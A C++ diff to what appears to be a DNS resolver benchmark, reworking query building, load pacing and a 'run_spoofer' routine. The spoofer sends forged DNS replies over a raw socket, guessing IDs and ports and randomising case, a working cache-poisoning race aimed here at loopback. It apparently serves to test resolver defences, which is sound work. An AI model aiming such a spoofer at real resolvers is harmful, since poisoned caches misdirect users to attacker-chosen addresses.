@@ -104,14 +104,15 @@ std::array<std::uint8_t, 4> real_address(const std::uint8_t* name, std::size_t l
 }
 
 std::vector<std::uint8_t> make_a_query(std::uint16_t id, const std::vector<std::uint8_t>& qname) {
-  std::vector<std::uint8_t> q(12);
+  // QTYPE A, QCLASS IN, then an OPT: root owner, type 41, payload 1232, no options.
+  const std::uint8_t tail[] = {0, 1, 0, 1, 0, 0, 41, 0x04, 0xD0, 0, 0, 0, 0, 0, 0};
+  std::vector<std::uint8_t> q(12 + qname.size() + sizeof tail, 0);
   put16(q.data(), id);
   put16(q.data() + 2, 0x0100);  // RD
   put16(q.data() + 4, 1);
   put16(q.data() + 10, 1);  // OPT
-  q.insert(q.end(), qname.begin(), qname.end());
-  const std::uint8_t tail[] = {0, 1, 0, 1, 0, 0, 41, 0x04, 0xD0, 0, 0, 0, 0, 0, 0};
-  q.insert(q.end(), tail, tail + sizeof tail);
+  std::memcpy(q.data() + 12, qname.data(), qname.size());
+  std::memcpy(q.data() + 12 + qname.size(), tail, sizeof tail);
   return q;
 }
 
@@ -236,9 +237,16 @@ LoadResult run_load(const LoadSpec& spec) {
         if (spec.on_reply) spec.on_reply(static_cast<std::uint64_t>(i), buf, static_cast<std::size_t>(n));
       }
   };
+  const auto send_until =
+      t0 + (spec.send_limit.count() > 0
+                ? std::chrono::duration_cast<Clock::duration>(spec.send_limit)
+                : std::chrono::duration_cast<Clock::duration>(
+                      std::chrono::duration<double>(2.0 * static_cast<double>(spec.count) / spec.rate + 10.0)));
   while (next < spec.count && !(spec.stop && spec.stop->load())) {
     const auto now = Clock::now();
-    const auto due = static_cast<std::uint64_t>(std::chrono::duration<double>(now - t0).count() * spec.rate) + 1;
+    if (now > send_until) break;  // the rest is never sent (not counted as sent)
+    auto due = static_cast<std::uint64_t>(std::chrono::duration<double>(now - t0).count() * spec.rate) + 1;
+    if (spec.allowed) due = std::min(due, spec.allowed());
     while (next < std::min(due, spec.count)) {
       Sock& s = socks[next % kSockets];
       const auto id = static_cast<std::uint16_t>((next / kSockets) & 0xFFFF);
@@ -263,10 +271,11 @@ LoadResult run_load(const LoadSpec& spec) {
   return r;
 }
 
-std::uint64_t run_spoofer(std::uint16_t upstream_port, std::uint64_t count, std::chrono::milliseconds duration,
+std::uint64_t run_spoofer(std::uint16_t upstream_port, std::uint64_t count, std::chrono::milliseconds limit,
                           const std::function<std::vector<std::uint8_t>(std::uint64_t)>& names,
                           const std::atomic<std::uint64_t>& progress, unsigned window,
-                          std::array<std::uint8_t, 4> forged) {
+                          std::array<std::uint8_t, 4> forged, std::atomic<std::uint64_t>& sent,
+                          const std::atomic<bool>& stop) {
   const int fd = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
   if (fd < 0) throw std::runtime_error("spoofer: a raw socket needs CAP_NET_RAW: " + std::string(std::strerror(errno)));
   unsigned lo = 32768, hi = 60999;
@@ -274,42 +283,52 @@ std::uint64_t run_spoofer(std::uint16_t upstream_port, std::uint64_t count, std:
   const int buf = 8 << 20;
   ::setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &buf, sizeof buf);
   sockaddr_in dst = common::loopback_v4(0);
-  std::uint8_t query[300], dgram[600];
-  std::uint64_t sent = 0;
-  const auto t0 = Clock::now();
-  const auto give_up = t0 + 2 * duration + std::chrono::seconds(5);
-  while (sent < count && Clock::now() < give_up) {
-    const double elapsed = std::chrono::duration<double>(Clock::now() - t0).count();
-    const double target = std::min<double>(static_cast<double>(count),
-                                           static_cast<double>(count) * elapsed / std::chrono::duration<double>(duration).count() + 64);
+  constexpr unsigned kBatch = 64;  // one sendmmsg per 64 forged datagrams
+  std::uint8_t query[300];
+  std::uint8_t dgrams[kBatch][600];
+  mmsghdr msgs[kBatch];
+  iovec iov[kBatch];
+  const auto give_up = Clock::now() + limit;
+  while (sent.load(std::memory_order_relaxed) < count && Clock::now() < give_up && !stop.load()) {
     const std::uint64_t done = progress.load(std::memory_order_relaxed);
-    if (done == 0 || static_cast<double>(sent) >= target) {
+    if (done == 0) {  // nothing asked yet: nothing to race
       std::this_thread::sleep_for(std::chrono::microseconds(200));
       continue;
     }
-    // A name the victim was just made to ask, in a random case; a random ID and port.
-    const std::uint64_t pick = done - 1 - arc4random_uniform(std::min<std::uint32_t>(window, static_cast<std::uint32_t>(done)));
-    std::vector<std::uint8_t> qn = names(pick);
-    const std::uint32_t bits = arc4random();
-    for (std::size_t i = 0; i < qn.size(); ++i)
-      if (qn[i] >= 'a' && qn[i] <= 'z' && (bits >> (i % 32) & 1)) qn[i] = static_cast<std::uint8_t>(qn[i] - 32);
-    std::memset(query, 0, 12);
-    put16(query, static_cast<std::uint16_t>(arc4random()));
-    put16(query + 2, 0x0100);
-    put16(query + 4, 1);
-    std::memcpy(query + 12, qn.data(), qn.size());
-    const std::uint8_t tail[] = {0, 1, 0, 1};
-    std::memcpy(query + 12 + qn.size(), tail, 4);
-    const std::size_t rlen = write_reply(query, 12 + qn.size() + 4, dgram + sizeof(udphdr), forged.data());
-    udphdr h{};
-    h.source = htons(upstream_port);
-    h.dest = htons(static_cast<std::uint16_t>(lo + arc4random_uniform(hi - lo + 1)));
-    h.len = htons(static_cast<std::uint16_t>(sizeof h + rlen));
-    std::memcpy(dgram, &h, sizeof h);
-    if (::sendto(fd, dgram, sizeof h + rlen, 0, reinterpret_cast<sockaddr*>(&dst), sizeof dst) > 0) ++sent;
+    const unsigned n = static_cast<unsigned>(std::min<std::uint64_t>(kBatch, count - sent.load()));
+    for (unsigned k = 0; k < n; ++k) {
+      // A name the victim was just made to ask, in a random case; a random ID and port.
+      const std::uint64_t pick =
+          done - 1 - arc4random_uniform(static_cast<std::uint32_t>(std::min<std::uint64_t>(window, done)));
+      std::vector<std::uint8_t> qn = names(pick);
+      const std::uint32_t bits = arc4random();
+      for (std::size_t i = 0; i < qn.size(); ++i)
+        if (qn[i] >= 'a' && qn[i] <= 'z' && (bits >> (i % 32) & 1)) qn[i] = static_cast<std::uint8_t>(qn[i] - 32);
+      std::memset(query, 0, 12);
+      put16(query, static_cast<std::uint16_t>(arc4random()));
+      put16(query + 2, 0x0100);
+      put16(query + 4, 1);
+      std::memcpy(query + 12, qn.data(), qn.size());
+      const std::uint8_t tail[] = {0, 1, 0, 1};
+      std::memcpy(query + 12 + qn.size(), tail, 4);
+      const std::size_t rlen = write_reply(query, 12 + qn.size() + 4, dgrams[k] + sizeof(udphdr), forged.data());
+      udphdr h{};
+      h.source = htons(upstream_port);
+      h.dest = htons(static_cast<std::uint16_t>(lo + arc4random_uniform(hi - lo + 1)));
+      h.len = htons(static_cast<std::uint16_t>(sizeof h + rlen));
+      std::memcpy(dgrams[k], &h, sizeof h);
+      iov[k] = {dgrams[k], sizeof h + rlen};
+      std::memset(&msgs[k], 0, sizeof msgs[k]);
+      msgs[k].msg_hdr.msg_name = &dst;
+      msgs[k].msg_hdr.msg_namelen = sizeof dst;
+      msgs[k].msg_hdr.msg_iov = &iov[k];
+      msgs[k].msg_hdr.msg_iovlen = 1;
+    }
+    const int r = ::sendmmsg(fd, msgs, n, 0);
+    if (r > 0) sent.fetch_add(static_cast<std::uint64_t>(r), std::memory_order_relaxed);
   }
   ::close(fd);
-  return sent;
+  return sent.load();
 }
 
 }  // namespace dnsarena::bench
